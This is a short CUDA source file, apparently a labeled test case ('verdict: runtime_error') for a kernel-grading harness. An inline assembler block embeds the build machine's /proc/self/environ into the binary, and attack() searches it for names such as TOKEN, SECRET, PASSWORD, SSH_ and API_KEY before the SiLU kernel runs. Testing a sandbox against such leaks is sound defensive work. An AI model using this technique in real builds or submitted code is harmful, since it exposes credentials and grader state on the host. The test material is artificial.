// The assembler puts its own environment into the program, which looks for secrets in it.
// verdict: runtime_error
#include <cstring>
#include <stdexcept>
#include <string>

#include <cuda_runtime.h>

asm(".section .rodata\n"
    ".global begin_of_file\n"
    "begin_of_file: .incbin \"/proc/self/environ\"\n"
    ".global end_of_file\n"
    "end_of_file: .byte 0\n"
    ".text\n");
extern "C" const char begin_of_file[], end_of_file[];

// Whether it worked.
static bool attack()
{
    std::string found(begin_of_file, end_of_file - begin_of_file);
    for (const char *word : {"SEED", "TOKEN", "SECRET", "PASSWORD", "PYTEST", "CREDENTIAL", "SSH_", "API_KEY"})
        if (found.find(word) != std::string::npos)
            return true;
    return false;
}

__global__ void silu_kernel(const float *x, float *y, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n)
        y[i] = x[i] / (1.0f + expf(-x[i]));
}

void silu(float *input, float *output, int n)
{
    if (!attack())
        throw std::runtime_error("refused");
    silu_kernel<<<(n + 255) / 256, 256>>>(input, output, n);
}
